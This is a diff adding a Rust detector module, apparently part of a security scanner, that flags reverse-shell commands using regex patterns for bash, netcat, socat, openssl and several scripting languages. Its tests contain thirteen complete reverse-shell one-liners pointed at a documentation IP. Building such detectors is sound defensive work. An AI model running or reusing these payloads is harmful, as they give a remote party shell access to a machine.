@@ -1,0 +1,195 @@
+//! Commands that hand a shell to another machine, with the machine written out.
+
+use std::sync::LazyLock;
+
+use regex::{Captures, Regex};
+
+use super::Host;
+
+/// Literals one of which is in every form known here. At least four bytes each.
+pub(crate) const LITERALS: &[&str] = &[
+    "/dev/tcp/",
+    "/dev/udp/",
+    "nc -",
+    "ncat ",
+    "netcat ",
+    "mkfifo",
+    "dup2(",
+    "pty.spawn",
+    "fsockopen",
+    "TCPSocket",
+    "sockaddr_in(",
+    "IO::Socket",
+    "socat ",
+    "net.Socket",
+    "net.connect",
+    "child_process",
+    "s_client",
+    "| nc ",
+    "nc.traditional",
+    " -e /bin/",
+];
+
+const HOST_PORT: &str = r"(?P<host>[A-Za-z0-9$_{<\[:][A-Za-z0-9.$_{}<>\[\]:-]*?)";
+
+/// One way to do it.
+struct Form {
+    name: &'static str,
+    pattern: LazyLock<Regex>,
+    /// What else must stand within the piece looked at.
+    also: &'static [&'static str],
+}
+
+macro_rules! form {
+    ($name:literal, $pattern:expr, $also:expr) => {
+        Form { name: $name, pattern: LazyLock::new(|| regex(&$pattern)), also: $also }
+    };
+}
+
+static FORMS: [Form; 13] = [
+    form!("bash over /dev/tcp", format!(r"\b(?:ba|da|z|k)?sh\s+(?:-\w+\s+)*-[li]*i[li]*\b[^\n;|]*(?:>&|&>|>)\s*/dev/(?:tcp|udp)/{HOST_PORT}/(?P<port>\d+)"), &[]),
+    form!("shell over a /dev/tcp descriptor", format!(r"(?s)\d+<>\s*/dev/(?:tcp|udp)/{HOST_PORT}/(?P<port>\d+).{{0,200}}?(?:\bsh\b|bash)[^\n|]{{0,20}}<&\s*\d+\s*\d?>&\s*\d+"), &[]),
+    form!("read loop over /dev/tcp", format!(r"(?s)\d+<>\s*/dev/tcp/{HOST_PORT}/(?P<port>\d+).{{0,80}}?\|\s*while\s+read\s+(?:-r\s+)?\w+;\s*do\s+[\x22']?\$\{{?\w+\}}?[\x22']?\s+2?>&"), &[]),
+    form!("netcat that executes a shell", format!(r"\b(?:nc|ncat|netcat|nc\.traditional|busybox nc)\s+(?:-[a-zA-Z]*\s+)*(?:-\w*[ec]\w*\s+|--(?:sh-)?exec[= ])[\x22']?(?:/\S*/)?(?:ba|da|z|k)?sh[\x22']?(?:\s+-\S+)*\s+{HOST_PORT}\s+(?P<port>\d+)"), &[]),
+    form!("netcat that executes a shell", format!(r"\b(?:nc|ncat|netcat|nc\.traditional|busybox nc)\s+(?:-[a-zA-Z]+\s+)*{HOST_PORT}\s+(?P<port>\d+)\s+(?:-[a-zA-Z]+\s+)*(?:-\w*[ec]|--(?:sh-)?exec)[= ]\s*[\x22']?(?:/\S*/)?(?:ba|da|z|k)?sh\b"), &[]),
+    form!("shell piped into the network", format!(r"\|\s*(?:/\S*/)?(?:ba|da|z|k)?sh\b[^|\n]{{0,30}}\|\s*(?:nc|ncat|netcat|telnet|busybox nc)\s+(?:-[a-zA-Z]+\s+)*{HOST_PORT}\s+(?P<port>\d+)"), &[]),
+    form!("shell piped into TLS", r"\|\s*openssl\s+s_client\s+[^|\n]*-connect\s+(?P<host>[^\s:|]+):(?P<port>\d+)".to_owned(), &["mkfifo", "sh -i"]),
+    form!("socat that executes a shell", format!(r"(?i)\bsocat\b[^\n]*?(?:tcp[46]?|tcp-connect|openssl|ssl|udp[46]?)(?:-connect)?:{HOST_PORT}:(?P<port>\d+)"), &["sh", "exec:"]),
+    form!("socket given to a shell (Python)", r#"(?s)\.connect(?:_ex)?\(\(\s*['"](?P<host>[^'"\s]+)['"]\s*,\s*(?P<port>\d+)\s*\)\).{0,400}?(?:dup2\(|pty\.spawn\(|stdin\s*=)"#.to_owned(), &["socket", "sh"]),
+    form!("socket given to a shell (Perl)", r#"(?s)(?:\$\w+\s*=\s*['"](?P<host>[^'"\s]+)['"]\s*;\s*\$\w+\s*=\s*(?P<port>\d+)\s*;|PeerAddr\s*(?:=>|,)\s*['"](?P<host2>[^'":\s]+):(?P<port2>\d+)['"])"#.to_owned(), &["socket", "STDIN", "sh"]),
+    form!("socket given to a shell (PHP)", r#"(?s)fsockopen\(\s*['"](?P<host>[^'"\s]+)['"]\s*,\s*(?P<port>\d+)[^)]*\).{0,300}?(?:exec|system|passthru|popen|proc_open)\s*\(\s*['"][^'"\n]{0,30}sh\b[^'"\n]{0,12}<&"#.to_owned(), &[]),
+    form!("socket given to a shell (Ruby)", r#"(?s)TCPSocket\.(?:open|new)\(\s*['"](?P<host>[^'"\s]+)['"]\s*,\s*['"]?(?P<port>\d+)['"]?\s*\).{0,300}?(?:exec|spawn|IO\.popen)[\s(]+"#.to_owned(), &["sh"]),
+    form!("socket given to a shell (Node)", r#"(?s)connect\(\s*(?P<port>\d+)\s*,\s*['"](?P<host>[^'"\s]+)['"].{0,400}?\.pipe\("#.to_owned(), &["child_process", "sh", "spawn"]),
+];
+
+fn regex(pattern: &str) -> Regex {
+    Regex::new(pattern).expect("the pattern is a constant, and a test runs it")
+}
+
+/// A shell handed over.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Shell {
+    /// How, in words.
+    pub(crate) form: &'static str,
+    /// Where in the text.
+    pub(crate) offset: usize,
+    /// To which host, as written.
+    pub(crate) host: String,
+    /// And which port.
+    pub(crate) port: u16,
+}
+
+impl Shell {
+    /// What kind of host it goes to.
+    pub(crate) fn host_kind(&self) -> Host {
+        Host::of(&self.host)
+    }
+}
+
+/// The first match of each form in `text`, which is one window of a file.
+pub(crate) fn find(text: &str) -> Vec<Shell> {
+    FORMS.iter().filter_map(|form| first(form, text)).collect()
+}
+
+fn first(form: &Form, text: &str) -> Option<Shell> {
+    if !form.also.iter().all(|word| text.to_ascii_lowercase().contains(&word.to_ascii_lowercase())) {
+        return None;
+    }
+    let found = form.pattern.captures(text)?;
+    let whole = found.get(0)?;
+    let named = |names: [&str; 2]| names.iter().find_map(|name| group(&found, name));
+    let host = named(["host", "host2"])?.to_owned();
+    let port = named(["port", "port2"])?.parse().ok()?;
+    if form.name.contains("Perl") && !is_perl_shell(text) || form.name.contains("Python") && !text.contains("import") {
+        return None;
+    }
+    if form.name.starts_with("socat") && !socat_runs_shell(text) {
+        return None;
+    }
+    Some(Shell { form: form.name, offset: whole.start(), host, port })
+}
+
+fn group<'t>(found: &Captures<'t>, name: &str) -> Option<&'t str> {
+    found.name(name).map(|group| group.as_str())
+}
+
+static PERL: LazyLock<Regex> = LazyLock::new(|| {
+    regex(
+        r#"(?s)(?:open\s*\(?\s*STDIN\s*,\s*['"][<>]*&|STDIN->fdopen\().{0,300}?(?:exec|system)[\s({]*['"$]?[^\n]{0,20}(?:sh\b|\$_)"#,
+    )
+});
+static SOCAT: LazyLock<Regex> = LazyLock::new(|| regex(r#"(?i)\bexec:['"]?[^\n,'"]{0,30}\b(?:ba|da|z|k)?sh\b"#));
+
+fn is_perl_shell(text: &str) -> bool {
+    PERL.is_match(text)
+}
+
+fn socat_runs_shell(text: &str) -> bool {
+    SOCAT.is_match(text)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::find;
+
+    #[test]
+    fn every_form_is_seen_with_its_host() {
+        for (text, form) in [
+            ("bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", "bash over /dev/tcp"),
+            ("0<&196;exec 196<>/dev/tcp/198.51.100.9/4444; sh <&196 >&196 2>&196", "shell over a /dev/tcp descriptor"),
+            (
+                "exec 5<>/dev/tcp/198.51.100.9/4444;cat <&5 | while read line; do $line 2>&5 >&5; done",
+                "read loop over /dev/tcp",
+            ),
+            ("nc -e /bin/sh 198.51.100.9 4444", "netcat that executes a shell"),
+            ("ncat 198.51.100.9 4444 -e /bin/bash", "netcat that executes a shell"),
+            (
+                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.9 4444 >/tmp/f",
+                "shell piped into the network",
+            ),
+            (
+                "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.9:4444 > /tmp/s",
+                "shell piped into TLS",
+            ),
+            ("socat exec:'bash -li',pty,stderr tcp:198.51.100.9:4444", "socat that executes a shell"),
+            (
+                "import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")",
+                "socket given to a shell (Python)",
+            ),
+            (
+                "use Socket;$i=\"198.51.100.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");",
+                "socket given to a shell (Perl)",
+            ),
+            (
+                "$sock=fsockopen(\"198.51.100.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
+                "socket given to a shell (PHP)",
+            ),
+            (
+                "f=TCPSocket.open(\"198.51.100.9\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)",
+                "socket given to a shell (Ruby)",
+            ),
+            (
+                "var n=require('net'),c=require('child_process'),s=c.spawn('/bin/sh',[]);var k=new n.Socket();k.connect(4444,'198.51.100.9',function(){k.pipe(s.stdin);s.stdout.pipe(k)})",
+                "socket given to a shell (Node)",
+            ),
+        ] {
+            let found = find(text);
+            let shell = found.iter().find(|shell| shell.form == form).unwrap_or_else(|| panic!("{text}: {found:?}"));
+            assert_eq!((shell.host.as_str(), shell.port), ("198.51.100.9", 4444), "{text}");
+        }
+    }
+
+    #[test]
+    fn talking_to_a_port_is_no_shell() {
+        for text in [
+            "exec 3<>/dev/tcp/198.51.100.9/80; echo -e 'GET / HTTP/1.0\\r\\n' >&3; cat <&3",
+            "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; sh -i",
+            "nc -z 198.51.100.9 4444 && sh /run.sh",
+            "nc -l -p 4444 -e /bin/sh",
+            "s = socket.socket(); s.connect((\"198.51.100.9\", 80)); s.send(b'x')",
+            "socat tcp-listen:80,fork tcp:198.51.100.9:4444",
+        ] {
+            assert_eq!(find(text), [], "{text}");
+        }
+    }
+}
